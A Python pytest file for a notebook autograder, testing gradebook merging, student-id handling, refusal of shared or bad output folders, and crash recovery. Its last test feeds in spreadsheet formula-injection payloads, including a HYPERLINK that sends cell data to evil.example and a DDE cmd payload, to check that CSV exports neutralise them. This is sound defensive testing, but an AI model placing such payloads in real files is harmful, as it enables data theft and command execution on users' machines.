"""The grader's output folder and student ids: every typed score kept, with its student, whatever happens."""

from __future__ import annotations

import csv
import os
import signal
import subprocess
import sys
import tempfile
import time
from pathlib import Path

import nbformat
import pytest
from test_grader import RIGHT, answered
from test_grader_attacks import grader_processes

from fourislands.cli import main
from fourislands.grading import gradebook
from fourislands.grading.output_folder import JOURNAL_NAME, OutputFolder
from fourislands.grading.students import find_submissions, readable_id

FAST = ["--jobs", "2", "--cell-timeout", "5", "--timeout", "30"]


@pytest.fixture
def course(built_course, monkeypatch):
    monkeypatch.setenv("FOURISLANDS_HOME", str(built_course))
    return built_course


def submit(course: Path, path: Path, answers: dict[str, str] = RIGHT) -> Path:
    path.parent.mkdir(parents=True, exist_ok=True)
    nbformat.write(answered(course, answers), path)
    return path


def rows(out: Path) -> dict[str, dict]:
    return {r["student"]: r for r in csv.DictReader((out / "gradebook.csv").read_text().splitlines())}


def type_marks(out: Path, marks: dict[str, str], points: str | None = None) -> None:
    """Type scores into written.csv as a grader would (student -> score of w1)."""
    reader = csv.DictReader((out / "written.csv").read_text().splitlines())
    table = list(reader)
    for row in table:
        if row["student"] in marks and row["question"] == "w1":
            row["score"] = marks[row["student"]]
            row["points"] = points or row["points"]
    with (out / "written.csv").open("w", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=reader.fieldnames, lineterminator="\n")
        writer.writeheader()
        writer.writerows(table)


def test_regrading_a_late_notebook_keeps_every_other_row_and_typed_score(course, tmp_path, capsys):
    out = tmp_path / "out"
    submit(course, tmp_path / "in" / "alice.ipynb")
    submit(course, tmp_path / "in" / "bob.ipynb", {**RIGHT, "q1": "q1 = 0"})
    assert main(["grade", str(tmp_path / "in"), "--out", str(out), *FAST]) == 0
    type_marks(out, {"bob": "2"})
    assert main(["grade", "--merge-written", "--out", str(out)]) == 0
    submit(course, tmp_path / "late" / "carol.ipynb")
    assert main(["grade", str(tmp_path / "late"), "--out", str(out), *FAST]) == 0
    book = rows(out)
    assert set(book) == {"alice", "bob", "carol"}
    assert (book["bob"]["autograded"], book["bob"]["w1"], book["bob"]["total"]) == ("5", "2", "7")
    assert "2 of 3 points" in (out / "feedback" / "99-fixture" / "bob.md").read_text()
    assert not (out / JOURNAL_NAME).exists()


def test_a_late_student_folder_never_moves_a_typed_score(course, tmp_path):
    out, folder = tmp_path / "out", tmp_path / "submitted"
    for student in ("bob", "dave"):
        submit(course, folder / student / "99-fixture.ipynb")
    assert main(["grade", str(folder), "--out", str(out), *FAST]) == 0
    type_marks(out, {"dave": "1"})
    submit(course, folder / "aaron" / "99-fixture.ipynb")  # sorts before both
    assert main(["grade", str(folder), "--out", str(out), *FAST]) == 0
    book = rows(out)
    assert set(book) == {"aaron", "bob", "dave"}
    assert (book["dave"]["w1"], book["bob"]["w1"], book["aaron"]["w1"]) == ("1", "", "")


def test_a_second_grader_on_the_same_folder_is_refused(course, tmp_path, capsys):
    submit(course, tmp_path / "in" / "alice.ipynb")
    out = tmp_path / "out"
    with OutputFolder(out):
        assert main(["grade", str(tmp_path / "in"), "--out", str(out), *FAST]) == 2
    assert "in use by another grader" in capsys.readouterr().out
    assert not (out / "gradebook.csv").exists()


@pytest.mark.parametrize("where", ["inside", "unwritable"])
def test_an_output_folder_that_cannot_serve_is_refused_before_grading(course, tmp_path, capsys, where):
    submissions = tmp_path / "in"
    submit(course, submissions / "alice.ipynb")
    (tmp_path / "a-file").write_text("not a folder")
    out = submissions / "marks" if where == "inside" else tmp_path / "a-file" / "out"
    started = time.monotonic()
    assert main(["grade", str(submissions), "--out", str(out), *FAST]) == 2
    said = capsys.readouterr().out
    assert ("inside the submissions folder" if where == "inside" else "cannot write") in said
    assert " rejected:" not in said and not out.exists()  # no summary line: nothing was graded
    assert time.monotonic() - started < 5


def test_typed_scores_are_checked_against_the_solution_not_the_csv(course, tmp_path, capsys):
    out = tmp_path / "out"
    submit(course, tmp_path / "in" / "mallory.ipynb")
    assert main(["grade", str(tmp_path / "in"), "--out", str(out), *FAST]) == 0
    type_marks(out, {"mallory": "2000"}, points="2000")
    assert main(["grade", "--merge-written", "--out", str(out)]) == 0
    assert "outside 0-3" in capsys.readouterr().out
    assert rows(out)["mallory"]["w1"] == "" and rows(out)["mallory"]["total"] == "7"
    assert "2000" in (out / "written.csv").read_text()  # kept for the grader to correct, not counted


def test_every_file_is_graded_or_reported_never_skipped_in_silence(course, tmp_path, capsys):
    folder = tmp_path / "in"
    for name in (".alice.ipynb", "田中 太郎.ipynb", "Bob.ipynb", "bob (1).ipynb"):
        submit(course, folder / name)
    submit(course, folder / ".ipynb_checkpoints" / "Bob-checkpoint.ipynb")
    (folder / "notes.txt").write_text("not a notebook")
    (tmp_path / "elsewhere").mkdir()
    through_dots = tmp_path / "elsewhere" / ".." / "in"
    assert main(["grade", str(through_dots), "--out", str(tmp_path / "out"), *FAST]) == 0
    said = capsys.readouterr().out
    assert "4 graded, 0 rejected" in said
    assert "checkpoint copies (1 files), not graded" in said and "notes.txt: not a notebook file" in said
    assert "possibly one student under several names: Bob, bob_1" in said
    assert set(rows(tmp_path / "out")) == {"alice", "田中_太郎", "Bob", "bob_1"}


def test_ids_come_from_the_layout_and_are_independent_of_order(tmp_path):
    for path in (
        "nbgrader/submitted/s01/ex5/05-survey.ipynb",
        "folders/carol/my work.ipynb",
        "flat/Dmitri Ivanov.ipynb",
    ):
        (tmp_path / path).parent.mkdir(parents=True, exist_ok=True)
        (tmp_path / path).write_text("{}")
    found = find_submissions([tmp_path / "nbgrader", tmp_path / "folders", tmp_path / "flat"])
    assert [s.student for s in found.submissions] == ["s01", "carol", "Dmitri_Ivanov"]
    alone = find_submissions([tmp_path / "folders"])
    assert [s.student for s in alone.submissions] == ["carol"]


def test_a_roster_names_the_students_and_lists_who_submitted_nothing(course, tmp_path, capsys):
    folder = tmp_path / "in"
    submit(course, folder / "alice-smith.ipynb")
    submit(course, folder / "zed.ipynb")
    roster = tmp_path / "roster.csv"
    roster.write_text("student,submission\ns001,alice-smith\ns002,bob-jones\n")
    assert main(["grade", str(folder), "--out", str(tmp_path / "out"), "--roster", str(roster), *FAST]) == 0
    assert "zed.ipynb: not on the roster; graded as 'zed'" in capsys.readouterr().out
    book = rows(tmp_path / "out")
    assert set(book) == {"s001", "s002", "zed"}
    assert book["s002"]["status"].startswith("missing: no submission")


def test_a_grader_killed_mid_run_leaves_nothing_running_and_the_next_run_recovers(course, tmp_path, capsys):
    folder, out = tmp_path / "in", tmp_path / "out"
    submit(course, folder / "a-quick.ipynb")
    submit(course, folder / "b-slow.ipynb", {**RIGHT, "q1": "import time\ntime.sleep(120)"})
    command = [sys.executable, "-m", "fourislands.cli", "grade", str(folder), "--out", str(out)]
    grader = subprocess.Popen(
        [*command, "--jobs", "1", "--cell-timeout", "200", "--timeout", "300"],
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    deadline = time.monotonic() + 90
    while not ((out / JOURNAL_NAME).exists() and (out / JOURNAL_NAME).read_text().count("\n") >= 1):
        assert time.monotonic() < deadline and grader.poll() is None, "the grader never recorded a result"
        time.sleep(0.2)
    time.sleep(1.0)  # the slow notebook is running now
    os.kill(grader.pid, signal.SIGKILL)
    grader.wait()
    deadline = time.monotonic() + 10
    while grader_processes() and time.monotonic() < deadline:
        time.sleep(0.2)
    assert grader_processes() == []
    stale = list(Path(tempfile.gettempdir()).glob(f"fourislands-grader-{grader.pid}-*"))
    assert stale, "the killed grader's workspace should still be there for the next run to clean"
    left_behind = [p for p in stale[0].rglob("*") if p.is_file()]
    assert left_behind and not [
        p for p in left_behind if p.suffix == ".ipynb" or b'"solution"' in p.read_bytes()
    ]
    submit(course, folder / "b-slow.ipynb")  # the student fixed it; grade again into the same folder
    assert main(["grade", str(folder / "b-slow.ipynb"), "--out", str(out), *FAST]) == 0
    assert "1 results of an interrupted run recovered" in capsys.readouterr().out
    assert set(rows(out)) == {"a-quick", "b-slow"} and rows(out)["a-quick"]["autograded"] == "7"
    assert not any(path.exists() for path in stale)


def test_hostile_submissions_become_gradebooks_and_lms_files_that_stay_text(course, tmp_path, capsys):
    # File names and written answers a spreadsheet would run as formulas, quotes, newlines, Cyrillic.
    hostile = {
        '=HYPERLINK("evil.example")': '=HYPERLINK("http://evil.example/?"&A1,"see marks")',
        "+1+1": "+SUM(1+1)*cmd|' /C calc'!A0",
        "@cmd": "@SUM(A1)",
        "Ёжик в тумане": "-2+3\n'quoted', \"doubled\", a comma",
    }
    folder, out = tmp_path / "in", tmp_path / "out"
    for name, answer in hostile.items():
        notebook = answered(course, RIGHT)
        for cell in notebook.cells:
            if (cell.metadata.get("nbgrader") or {}).get("grade_id") == "w1":
                cell.source = answer
        submit(course, folder / f"{name}.ipynb").write_text(nbformat.writes(notebook))
    assert main(["grade", str(folder), "--out", str(out), *FAST]) == 0
    students = {readable_id(name): answer for name, answer in hostile.items()}
    assert set(students) == {"HYPERLINK_evil.example", "1_1", "cmd", "Ёжик_в_тумане"}

    def table(path: Path) -> list[list[str]]:
        with path.open(encoding="utf-8", newline="") as handle:
            cells = list(csv.reader(handle))
        for row in cells:  # no cell opens as a formula: = + - @ only on numbers
            for cell in row:
                assert (
                    not cell.lstrip().startswith(("=", "+", "-", "@"))
                    or cell.lstrip("+-").replace(".", "").isdigit()
                )
        return cells

    book = table(out / "gradebook-99-fixture.csv")
    assert book[0] == ["student", "status", "q1", "q2", "q3", "w1", "autograded", "manual", "total", "file"]
    assert book[1] == ["Points Possible", "", "2", "3", "2", "3", "7", "3", "10", ""]
    assert {row[0]: row[1] for row in book[2:]} == dict.fromkeys(students, "awaiting manual marks")
    header, *lines = table(out / "written.csv")
    written = {row[0]: gradebook.plain_cell(row[header.index("answer")]) for row in lines}
    assert written == students  # each answer reads back as the student wrote it
    # A spreadsheet types the marks and saves the file back without the apostrophes it hid.
    with (out / "written.csv").open(encoding="utf-8", newline="") as handle:
        reader = csv.DictReader(handle)
        marked = [{k: gradebook.plain_cell(v) for k, v in row.items()} for row in reader]
    with (out / "written.csv").open("w", encoding="utf-8", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=reader.fieldnames)
        writer.writeheader()
        writer.writerows({**row, "score": "3"} for row in marked)
    assert main(["grade", "--merge-written", "--out", str(out)]) == 0
    assert "changed since it was marked" not in capsys.readouterr().out
    book = table(out / "gradebook-99-fixture.csv")
    assert {row[0]: (row[1], row[-2]) for row in book[2:]} == dict.fromkeys(students, ("complete", "10"))
    assert main(["export", str(out), "--format", "canvas"]) == 0
    canvas = table(out / "canvas-grades.csv")
    assert canvas[:2] == [
        ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "99-fixture"],
        ["Points Possible", "", "", "", "", "10"],
    ]
    assert sorted(row[2] for row in canvas[2:]) == sorted(students) and {row[-1] for row in canvas[2:]} == {
        "10"
    }
    assert main(["export", str(out), "--format", "moodle"]) == 0
    assert table(out / "moodle-grades.csv")[0] == ["ID number", "99-fixture"]
